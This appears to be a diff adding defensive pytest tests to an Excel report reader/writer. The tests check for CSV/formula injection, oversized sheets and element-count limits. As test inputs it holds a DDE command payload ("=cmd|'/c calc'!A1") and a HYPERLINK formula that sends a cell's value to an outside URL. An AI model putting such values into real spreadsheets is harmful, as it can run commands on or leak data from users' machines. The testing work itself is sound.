@@ -6,6 +6,7 @@ import zipfile
 from datetime import datetime, time
 from decimal import Decimal
 from io import BytesIO
+from time import process_time
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -14,6 +15,7 @@ from congtac.config import load
 from congtac.documents.reports import excel as report_excel
 from congtac.documents.reports import excel_reader as report_excel_reader
 from congtac.documents.reports.excel import FIGURES, TEXTS
+from congtac.documents.reports.workbook import MAX_SHEETS
 from congtac.domain.cycle import CycleKind
 from congtac.domain.errors import BadInput
 from congtac.domain.figures import Figure, Qualifier
@@ -102,6 +104,17 @@ def test_a_form_saved_by_libreoffice_comes_back_with_rates_and_formulas_as_peopl
         "study_papers": "hơn 12",
     }
     assert report_excel_reader.read(path, form).identity == MINE
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.vn/?"&C3,"Báo cáo")', "+84 việc", "-1+1", "@SUM(A1)"])
+def test_a_text_that_excel_would_compute_stays_a_text_out_and_back(filled, form, text):
+    known = {Field("shortcomings", Column.RESULT): text}
+    named = Identity("review", "kỳ/2023", "chi_bo_1", "=cmd|'/c calc'!A1", text)
+
+    book = load_workbook(BytesIO(report_excel.write(form, named, known)))
+
+    assert "f" not in {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert read(filled(known=known), form) == (known, [])
 
 
 def test_an_empty_form_is_a_form_with_no_answers(filled, form):
@@ -311,6 +324,34 @@ def test_a_sheet_with_a_million_rows_is_refused_at_the_limit(filled, form):
     path = filled(lambda book: book[FIGURES].cell(1_000_000, 3, "x"))
 
     with pytest.raises(BadInput, match=r"report\.too_many_rows"):
+        report_excel_reader.read(path, form)
+
+
+def test_a_cell_far_to_the_right_in_every_row_costs_no_more_than_one_of_the_form(filled, form):
+    def far(book):
+        for row in range(10, 1_990):
+            book[FIGURES].cell(row, 16_384, "x")
+
+    started = process_time()
+    assert read(filled(far), form) == ({}, [])
+    assert process_time() - started < 3  # filled up with empty cells each row took twenty times as long
+
+
+def test_more_sheets_than_a_form_ever_has_are_told(filled, form):
+    def sheets(number):
+        return lambda book: [book.create_sheet() for _one in range(number - len(book.sheetnames))]
+
+    assert read(filled(sheets(MAX_SHEETS)), form) == ({}, [])
+    with pytest.raises(BadInput, match=r"report\.too_many_sheets"):
+        read(filled(sheets(MAX_SHEETS + 1)), form)
+
+
+def test_one_row_of_a_hundred_thousand_cells_is_refused_before_it_is_read(filled, form):
+    cells = '<c r="A1" t="inlineStr"><is><t>1</t></is></c>' * 40_000
+    sheet = f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>"
+    path = with_part(filled(), "xl/worksheets/sheet4.xml", sheet)
+
+    with pytest.raises(BadInput, match=r"package\.too_many_elements"):
         report_excel_reader.read(path, form)
 
 
